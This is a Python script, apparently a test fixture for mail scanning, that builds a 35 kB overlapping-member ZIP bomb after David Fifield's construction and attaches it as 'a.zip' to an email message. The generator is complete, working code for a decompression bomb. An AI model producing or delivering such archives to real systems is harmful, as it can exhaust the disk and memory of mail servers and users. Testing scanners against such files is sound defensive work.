# A ZIP bomb of 35 kB: each member quotes the header of the next.
from parts import *


def quoted_overlap(members=250, kernel_bytes=20 << 20):
    """After David Fifield's construction: every member but the last begins
    with a stored block that holds the next member's local header."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(kernel_bytes)) + packer.flush()
    header_bytes = 30 + 3
    step = header_bytes + 5
    end = members * step - 5 + len(kernel)
    blob, directory = b"", b""
    for i in range(members):
        at = i * step
        length = end - at - header_bytes
        size = kernel_bytes + (members - 1 - i) * header_bytes
        fixed = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, length, size, 3,
                            0)
        name = b"%03d" % i
        blob += b"PK\3\4" + fixed + name
        if i < members - 1:
            blob += struct.pack("<BHH", 0, header_bytes,
                                header_bytes ^ 0xFFFF)
        directory += b"PK\1\2" + struct.pack("<H", 20) + fixed + struct.pack(
            "<HHHII", 0, 0, 0, 0, at) + name
    blob += kernel
    return blob + directory + struct.pack(
        "<4sHHHHIIH", b"PK\5\6", 0, 0, members, members, len(directory),
        len(blob), 0)


data = quoted_overlap()
assert len(data) < 64 * 1024
message = mail(join([text_part("test"), file_part("a.zip", data)]))
